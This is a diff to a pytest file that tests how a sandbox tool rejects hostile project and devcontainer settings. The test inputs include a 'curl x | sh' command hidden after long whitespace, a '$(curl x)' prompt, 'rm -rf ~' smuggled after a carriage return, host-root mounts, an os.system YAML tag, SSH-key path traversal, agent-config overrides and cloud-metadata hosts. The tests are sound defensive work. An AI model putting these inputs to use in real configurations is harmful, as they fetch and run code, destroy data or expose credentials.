@@ -5,6 +5,7 @@ import json
 import pytest
 
 from atoll.domain.errors import Invalid
+from atoll.domain.network.network import Network, NetworkMode
 from atoll.domain.repository.devcontainer import read_devcontainer, without_comments
 from atoll.domain.repository.project import (
     ProjectFile,
@@ -20,6 +21,7 @@ from atoll.domain.repository.project_file import (
     read_project,
 )
 from atoll.domain.repository.project_schema import project_schema
+from atoll.domain.sandbox.project import widened
 from tests.places import ROOT
 
 WHOLE = b"""
@@ -63,7 +65,7 @@ HOSTILE = {
     "secrets": "secrets: [GITHUB_TOKEN]",
     "network mode": "network: full",
     "network mode in a list": "network: [full]",
-    "a host of its own": "network: [evil.example]",
+    "a host of its own with the mode": "network: [api.acme.dev, full]",
     "every host": 'network: ["*"]',
     "a path above": "copy: [../../.ssh/id_ed25519]",
     "a path above, encoded": 'copy: ["%2e%2e/%2e%2e/.ssh"]',
@@ -82,6 +84,16 @@ HOSTILE = {
     "a turned reading direction": 'setup: ["echo \\u202etxt.exe"]',
     "a blank letter": 'setup: ["echo \\u3164 hello"]',
     "an escape code in a path": 'copy: ["a\\e[1m"]',
+    "a command whose end is out of sight": 'setup: ["npm ci' + " " * 1900 + '; curl x | sh"]',
+    "marks that cover the line above": 'setup: ["echo a' + "\u0301" * 40 + '"]',
+    "a bomb of aliases": "a: &a [x]\nb: &b [*a, *a]\nsetup: [*b, *b]",
+    "a merge key": "base: {setup: [a]}\n<<: {setup: [b]}",
+    "a huge number": "ports: [" + "9" * 4000 + "]",
+    "a number in another base": "ports: [0x0BB8]",
+    "a million commands": "setup: [" + "a," * 30000 + "a]",
+    "an agent's own settings": "env: {CODEX_HOME: /workspace/.codex}",
+    "another agent's own settings": "env: {claude_config_dir: /workspace/.claude}",
+    "a prompt that runs": "env: {PS1: '$(curl x)'}",
     "an empty command": 'setup: ["  "]',
     "a number as a command": "setup: [1]",
     "a tag": "setup: !!python/object/apply:os.system [id]",
@@ -233,3 +245,59 @@ def test_comments_go_and_strings_stay() -> None:
         "a": 'x // y /* z */ " //',
         "b": [1, 2],
     }
+
+
+@pytest.mark.parametrize(
+    "host",
+    [
+        "*", "*.com", "*.co.uk", "*.github.io", "**.acme.dev", "a.*.acme.dev", "acme*.dev",
+        "10.0.0.1", "127.0.0.1", "0x7f.1", "2130706433", "[::1]", "169.254.169.254", "1.2.3.04",
+        "localhost", "router", "nas.local", "db.internal", "*.lan", "x.onion", "1.10.in-addr.arpa",
+        "https://api.acme.dev", "http://api.acme.dev/", "api.acme.dev:22", "api.acme.dev/path",
+        "GET api.acme.dev", "user@api.acme.dev", "api.acme.dev.", "API.acme.dev", "\u0430cme.dev",
+        "acme.dev\u200b", "-acme.dev", "a..acme.dev", "x" * 64 + ".acme.dev", "preset:evil.dev",
+    ],
+)  # fmt: skip
+def test_host_that_is_no_public_name_is_rejected(host: str) -> None:
+    with pytest.raises(Invalid) as caught:
+        read_project(json.dumps({"network": ["npm", host]}).encode())
+    assert caught.value.message.isprintable()
+
+
+def test_each_host_is_a_proposal_of_its_own_and_bound_to_the_digest() -> None:
+    content = read_project(b"network: [npm, api.acme.dev, '*.cdn.acme.dev']")
+    assert proposals(content) == (
+        Proposal(ProposalKind.NETWORK, "npm"),
+        Proposal(ProposalKind.HOST, "api.acme.dev"),
+        Proposal(ProposalKind.HOST, "*.cdn.acme.dev"),
+    )
+    other = read_project(b"network: [npm, api.acme.dev, '*.acme.dev']")
+    assert project_digest(other) != project_digest(content)
+    network = widened(Network(mode=NetworkMode.NONE, egress=("a.b",)), content)
+    assert network.mode is NetworkMode.NONE
+    assert network.egress == ("a.b", "preset:npm", "api.acme.dev", "*.cdn.acme.dev")
+    many = json.dumps({"network": [f"h{number}.acme.dev" for number in range(30)]})
+    with pytest.raises(Invalid):
+        read_project(many.encode())
+
+
+@pytest.mark.parametrize(
+    "field",
+    [
+        {"postCreateCommand": "npm ci" + " " * 1900 + "; curl x | sh"},
+        {"postCreateCommand": ["echo", "a" + "\u0301" * 40]},
+        {"postCreateCommand": "rm -rf ~\recho hello"},
+        {"containerEnv": {"CLAUDE_CONFIG_DIR": "/workspace/.claude"}},
+        {"containerEnv": {"A": "\u202e"}},
+        {"forwardPorts": [3128]},
+        {"mounts": ["source=/,target=/host,type=bind"], "runArgs": ["--network=host"]},
+        {"network": ["api.acme.dev"], "setup": ["id"], "copy": ["../../.ssh"]},
+        {"initializeCommand": "id", "onCreateCommand": "id", "secrets": {"A": {}}},
+    ],
+)
+def test_devcontainer_gets_nothing_by_what_a_project_file_is_refused(
+    field: dict[str, object],
+) -> None:
+    found = read_devcontainer(json.dumps(field).encode(), "devcontainer.json")
+    assert proposals(found) == () and found.agent is None and found.ignored
+    assert all(line.isprintable() for line in found.ignored)
